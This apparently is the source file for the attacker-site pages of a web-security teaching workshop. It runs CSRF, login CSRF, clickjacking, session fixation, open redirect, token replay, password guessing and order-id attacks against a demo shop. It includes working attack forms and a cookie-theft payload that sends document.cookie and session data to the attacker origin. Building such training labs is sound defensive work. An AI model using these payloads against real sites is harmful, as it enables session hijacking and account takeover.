// The attacker site's pages (scripts/workshop/attacker.mjs serves them). Each explains the
// attack in two sentences, does it, shows the outcome in a live region (role="status",
// data-outcome="waiting" | "worked" | "refused") and says how it knows.

/** Text escaped for HTML, exactly as React escapes it, so attacker.mjs can also find a value in a shop page. */
export const escape = (value) =>
  String(value).replace(/[&<>"']/g, (char) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#x27;" })[char]);

/** The attack pages, in the order the index lists them: [path, title]. */
export const ATTACKS = [
  ["/csrf", "Cross-site request forgery: sign the victim out"],
  ["/login-csrf", "Login CSRF: sign the victim in as the attacker"],
  ["/clickjacking", "Clickjacking: the shop in an invisible frame"],
  ["/fixation", "Session fixation: plant a token before sign-in"],
  ["/collector", "Cookie theft: what an injected script can read"],
  ["/redirect", "Open redirect: from the shop's sign-in to the attacker"],
  ["/replay", "Replay a stolen token"],
  ["/guessing", "Password guessing"],
  ["/stolen-database", "A stolen copy of the database"],
  ["/orders", "Someone else's order, by its id"],
];

// Shared by every page: shows an answer of the status endpoints in the live region.
const SHOW = `
const outcome = document.getElementById("outcome");
function show(answer) {
  outcome.dataset.outcome = answer.outcome;
  outcome.textContent = answer.message;
  const victim = document.getElementById("victim");
  if (victim && answer.signedIn) victim.textContent = answer.signedIn;
}
async function poll(url) {
  for (;;) {
    try { show(await (await fetch(url())).json()); } catch { /* the next round tries again */ }
    await new Promise((resolve) => setTimeout(resolve, 1500));
  }
}`;

function layout(title, body, script = "") {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>${escape(title)} · attacker site</title>
<style>
body { font: 16px/1.5 system-ui, sans-serif; max-width: 46rem; margin: 2rem auto; padding: 0 1rem; color: #1c1917; }
header { border-bottom: 3px solid #b91c1c; margin-bottom: 1.5rem; }
header p { color: #57534e; margin-top: 0; }
[role=status] { padding: .75rem 1rem; border-radius: .5rem; border: 2px solid #a8a29e; background: #f5f5f4; font-weight: 600; }
[data-outcome=worked] { border-color: #b91c1c; background: #fee2e2; }
[data-outcome=refused] { border-color: #15803d; background: #dcfce7; }
code, textarea { font: 14px ui-monospace, monospace; } textarea { width: 100%; }
pre { white-space: pre-wrap; word-break: break-all; background: #f5f5f4; padding: .75rem; }
.how { color: #57534e; font-size: .9rem; }
button { font: inherit; padding: .4rem 1rem; }
</style></head>
<body><header><p><a href="/">Attacker site</a> · a page of the workshop playing a hostile site on another origin</p><h1>${escape(title)}</h1></header>
${body}
<script type="module">${SHOW}
${script}</script>
</body></html>`;
}

const outcomeBox = (text) => `<h2>Outcome</h2><p role="status" id="outcome" data-outcome="waiting">${escape(text)}</p>`;

export const pages = {
  index({ shopUrl, attackerOrigin }) {
    const list = ATTACKS.map(([href, label]) => `<li><a href="${href}">${escape(label)}</a></li>`).join("");
    return layout(
      "Attacks on the shop",
      `<p>This site, <code>${escape(attackerOrigin)}</code>, is another site than the shop, <code>${escape(shopUrl)}</code>:
another host name, so the browser treats the two as cross-site. Sign in to the shop in this browser
(<code>alice@example.com</code>, <code>wonderland-demo-42</code>), then try each attack. Each page says
whether it worked against the shop as it runs now; break a control (docs/workshop.md) and try again.</p><ul>${list}</ul>
<p class="how">Where the outcome shows only inside the shop, a page asks the workshop's <strong>referee</strong>, which reads the
shop's database and log. Each page says when it does.</p>`,
    );
  },

  csrf({ shopUrl }, since) {
    return layout(
      "Cross-site request forgery",
      `<p>This page posted a hidden form to the shop's <code>POST /sign-out</code> the moment it opened, into an invisible frame.
If the shop accepted it with your cookie, you are now signed out of the shop: a forged request acted in your name.</p>
<p id="victim"></p>
<form id="forged" method="post" action="${escape(new URL("/sign-out", shopUrl).href)}" target="sink"></form>
<iframe name="sink" title="where the forged post goes" hidden></iframe>
${outcomeBox("Sending the form...")}
<p class="how">How this page knows: it cannot read the shop's answer (another origin). The referee reads the shop's log, where
proxy.ts records each cross-site write it refuses, and its activity log, where every sign-out is recorded.</p>`,
      `let sent = 0;
document.querySelector("iframe").addEventListener("load", () => { sent ||= Date.now(); });
document.getElementById("forged").submit();
poll(() => "/status/csrf?since=${since}&sent=" + sent);`,
    );
  },

  loginCsrf({ shopUrl }, since, hidden, mallory) {
    const fields = [...hidden, ["email", mallory.email], ["password", mallory.password]]
      .map(([name, value]) => `<input type="hidden" name="${escape(name)}" value="${escape(value)}">`)
      .join("");
    return layout(
      "Login CSRF",
      `<p>The attacker has an account of their own, <code>${escape(mallory.email)}</code>. This page posts the shop's own sign-in
form with the attacker's email and password, copied from the shop's public <code>/login</code> page (server actions publish
their id there). If the shop accepts it, your browser is signed in as the attacker, and the address or order you enter next
lands in the attacker's account.</p>
<form method="post" action="${escape(new URL("/login", shopUrl).href)}" enctype="multipart/form-data" target="_blank" id="forged">
${fields}<button>Claim your free gift</button></form>
${outcomeBox("Press the button to send the form.")}
<p class="how">How this page knows: it cannot read the shop's answer. The referee reads the shop's log (a refused cross-site
write) and its activity log (a sign-in to the attacker's account).</p>`,
      `let sent = 0;
document.getElementById("forged").addEventListener("submit", () => { sent = Date.now(); });
poll(() => "/status/login-csrf?since=${since}&sent=" + sent);`,
    );
  },

  clickjacking({ shopUrl }) {
    return layout(
      "Clickjacking",
      `<p>The shop's sessions page is loaded below in a frame, almost transparent, with a decoy button placed over its
<strong>Sign out all other sessions</strong> button. A visitor who clicks the decoy clicks the shop.</p>
<div style="position: relative; width: 44rem; max-width: 100%; height: 30rem; border: 1px dashed #a8a29e">
<button style="position: absolute; top: 14rem; left: 2rem; z-index: 0">Claim your free gift</button>
<iframe title="the shop, framed" src="${escape(new URL("/account/sessions", shopUrl).href)}" style="position: absolute; inset: 0; width: 100%; height: 100%; opacity: .3; z-index: 1; border: 0"></iframe>
</div>
${outcomeBox("Checking whether the shop lets itself be framed...")}
<p class="how">How this page knows: a page cannot look into a frame from another origin, and the frame's load event fires
whether the shop was shown or blocked. The referee requests the same page and reads the two headers the browser obeys:
<code>X-Frame-Options</code> and <code>Content-Security-Policy: frame-ancestors</code>. Look at the frame too: blocked,
it shows the browser's error page.</p>`,
      `poll(() => "/status/clickjacking");`,
    );
  },

  fixation({ shopUrl, siblingOrigin }, since) {
    return layout(
      "Session fixation",
      `<ol><li>The attacker gets a guest session of their own from the shop (by adding something to a cart) and keeps its token.</li>
<li>A page on <code>${escape(siblingOrigin)}</code> sets that token as the shop's session cookie in your browser, then sends you
to the shop's sign-in page.</li><li>You sign in. If the shop kept the token, the attacker's copy is now signed in as you.</li></ol>
<p><button id="prepare">1. Prepare a token</button> <a id="plant" hidden>2. Plant it and go to the shop's sign-in</a></p>
${outcomeBox("Prepare a token first.")}
<p class="how">What this simulates, honestly: cookies are scoped to a host name, not to a port, so any page on
<code>http://${escape(new URL(shopUrl).hostname)}</code>, whatever its port, can set a cookie the shop receives. On the internet the
same trick needs a sibling subdomain (<code>evil.shop.example</code> setting a cookie for <code>shop.example</code>) or a
network attacker on plain HTTP; over HTTPS the shop's <code>__Host-</code> cookie prefix refuses both.<br>
How this page knows: the attacker asks the shop's <code>/api/auth/session</code> with the planted token, from its own
server and with your browser's user agent, exactly as they would use it.</p>`,
      `let id = "";
document.getElementById("prepare").addEventListener("click", async () => {
  const answer = await (await fetch("/fixation/prepare", { method: "POST", body: JSON.stringify({ userAgent: navigator.userAgent }) })).json();
  if (!answer.id) return show({ outcome: "waiting", message: answer.error });
  id = answer.id;
  const plant = document.getElementById("plant");
  plant.href = answer.plantUrl;
  plant.target = "_blank";
  plant.hidden = false;
});
poll(() => "/status/fixation?since=${since}&id=" + id);`,
    );
  },

  collector({ attackerOrigin }, loot) {
    const payload = `(async () => { const s = await (await fetch("/api/auth/session")).text(); location = "${attackerOrigin}/collect?c=" + encodeURIComponent(document.cookie) + "&s=" + encodeURIComponent(s) + "&ua=" + encodeURIComponent(navigator.userAgent); })()`;
    const rows = loot
      .slice(0, 5)
      .map((entry) => `<li>${escape(new Date(entry.at).toLocaleTimeString("en-GB"))}: document.cookie <code>${escape(entry.cookies || "(empty)")}</code>; /api/auth/session <code>${escape(entry.session || "(empty)")}</code></li>`)
      .join("");
    return layout(
      "Cookie theft by an injected script",
      `<p>An attacker who finds a way to run a script in the shop's pages (cross-site scripting) sends home whatever that script
can read. The shop has no such hole to use, so play the injected script yourself: open a shop tab, signed in, open the
browser's developer tools, and run this in its console. It reads <code>document.cookie</code> and the shop's
<code>/api/auth/session</code>, and sends both here in the address of a page it navigates to (the shop's Content Security
Policy stops a script from posting data to another site, but not from leaving the page).</p>
<pre id="payload">${escape(payload)}</pre>
${outcomeBox("Nothing collected yet. Run the script above in a shop tab's console.")}
<h2>Collected</h2><ul>${rows || "<li>nothing yet</li>"}</ul>
<p class="how">How this page knows: it got what the script sent, looked for a session token in it, and asked the shop's
<code>/api/auth/session</code> with it, from the attacker's server, as the thief would.</p>`,
      `poll(() => "/status/collector");`,
    );
  },

  redirect({ shopUrl, attackerOrigin }, since) {
    const link = new URL("/login", shopUrl);
    link.searchParams.set("next", `${attackerOrigin}/landing`);
    return layout(
      "Open redirect after sign-in",
      `<p>A link to the real sign-in page of the real shop, the kind sent in a phishing mail. Its <code>next=</code> points here.
If the shop follows it after sign-in, the victim, who has just checked the address bar and typed the password into the
real shop, lands on the attacker's page, which asks for the password "again".</p>
<p><a href="${escape(link.href)}" target="_blank">Sign in to Larkspur Goods</a> <code>${escape(link.href)}</code></p>
${outcomeBox("Waiting for the victim to sign in through the link.")}
<p class="how">How this page knows: a visit to its landing page is something the attacker sees for itself. That no visit
came is proved by the referee, which reads the shop's activity log for a sign-in after this page opened.</p>`,
      `poll(() => "/status/redirect?since=${since}");`,
    );
  },

  landing() {
    return layout(
      "Your session has expired",
      `<p>This is the attacker's landing page. The shop sent you here right after you signed in. A real one would look exactly like
the shop's sign-in page and ask for your password again; this one asks for nothing.</p>`,
    );
  },

  replay({ cookieName }, stolen) {
    return layout(
      "Replay a stolen token",
      `<p>The attacker holds a copy of the victim's session token: read by an injected script (see the collector), or copied
from the browser's developer tools (Application, Cookies, <code>${escape(cookieName)}</code>). Paste it, then replay it from
the attacker's machine, either disguised as the victim's browser (the same user agent) or as the attacker's own browser.</p>
<ul><li>Lab 10: copy the token, confirm your password at the shop (<code>/account/confirm</code>), then replay the old copy.</li>
<li>Lab 11: copy the token, change the password (in another browser, or here: the copy is older), then replay.</li>
<li>Lab 13: replay from the attacker's own browser.</li></ul>
<form id="replay"><label for="token">Stolen token</label><br><textarea id="token" name="token" rows="2">${escape(stolen)}</textarea>
<fieldset><legend>Replay from</legend>
<label><input type="radio" name="browser" value="victim" checked> the victim's browser (same user agent)</label><br>
<label><input type="radio" name="browser" value="attacker"> the attacker's own browser (another user agent)</label></fieldset>
<button>Replay</button></form>
${outcomeBox("Paste a token and press Replay.")}
<p class="how">How this page knows: the attacker asks the shop's <code>/api/auth/session</code> with the token, which any
client may do, and sees who it signs in or that the shop deletes the cookie. Why a token died comes from the referee,
which reads the shop's activity log.</p>`,
      `document.getElementById("replay").addEventListener("submit", async (event) => {
  event.preventDefault();
  const form = new FormData(event.target);
  show({ outcome: "waiting", message: "Replaying..." });
  const answer = await fetch("/replay", { method: "POST", body: JSON.stringify({ token: form.get("token"), browser: form.get("browser"), userAgent: navigator.userAgent }) });
  show(await answer.json());
});`,
    );
  },

  stolenDatabase() {
    return layout(
      "A stolen copy of the database",
      `<p>Databases leak: a backup left on a file share, a read replica, an SQL injection in some other page. The attacker has
a copy of the shop's <code>Session</code> table and tries what it holds: each of alice's live sessions, its id presented as the
session cookie, with the user agent stored in the same row, so that it looks like her browser.</p>
<p><button id="steal">Try the stolen rows</button></p>
${outcomeBox("Sign in to the shop as alice, then press the button.")}
<ul id="rows"></ul>
<p class="how">How this page knows: the referee plays the stolen copy (it reads the shop's database, read-only); the
attacker's server then asks the shop's <code>/api/auth/session</code> with each id as the cookie and sees whom it signs in.</p>`,
      `document.getElementById("steal").addEventListener("click", async () => {
  show({ outcome: "waiting", message: "Trying the stolen rows..." });
  const answer = await (await fetch("/stolen-database", { method: "POST" })).json();
  document.getElementById("rows").replaceChildren(...(answer.ids ?? []).map((id) => {
    const item = document.createElement("li");
    item.textContent = "Session.id " + id;
    return item;
  }));
  show(answer);
});`,
    );
  },

  orders(_context, attackerEmail) {
    return layout(
      "Someone else's order, by its id",
      `<p>The attacker has an account of their own, <code>${escape(attackerEmail)}</code>, and has learned the id of alice's
latest order: ids travel in confirmation mails, screenshots and support tickets. Signed in as themselves, they ask the shop
for <code>/orders/&lt;that id&gt;</code>. A shop that finds the order by its id alone, and forgets to ask whose it is, shows
alice's name, address and what she bought.</p>
<p><button id="read">Open alice's order as the attacker</button></p>
${outcomeBox("Place an order as alice, then press the button.")}
<p class="how">How this page knows: the referee reads the id of alice's newest order from the shop's database (standing in
for the leaked id); the attacker's server signs in to its own account and reads the order page as any browser would.</p>`,
      `document.getElementById("read").addEventListener("click", async () => {
  show({ outcome: "waiting", message: "Asking the shop..." });
  show(await (await fetch("/orders", { method: "POST" })).json());
});`,
    );
  },

  guessing(_context, email, count) {
    return layout(
      "Password guessing",
      `<p>A script on the attacker's machine tries ${count} passwords for <code>${escape(email)}</code> through the shop's
sign-in form, one after the other. The last one on its list is the right one. A shop that throttles sign-ins answers
"Too many attempts" after a few failures and then refuses even the right password, unchecked, until the wait is over.</p>
<p><button id="guess">Start guessing</button></p>
${outcomeBox("Press the button to start.")}
<ol id="tries"></ol>
<p class="how">How this page knows: each answer is the shop's sign-in page as the script received it: "Incorrect email or
password.", "Too many attempts...", or a redirect with a new session cookie.<br>Afterwards the account is blocked for
strangers for a few seconds; the browser you signed in with before counts apart and is not.</p>`,
      `document.getElementById("guess").addEventListener("click", async () => {
  show({ outcome: "waiting", message: "Guessing..." });
  const answer = await (await fetch("/guessing", { method: "POST" })).json();
  document.getElementById("tries").replaceChildren(...answer.tries.map((entry) => {
    const item = document.createElement("li");
    item.textContent = (entry.right ? "the right password: " : "a wrong password: ") + entry.said;
    return item;
  }));
  show(answer);
});`,
    );
  },
};
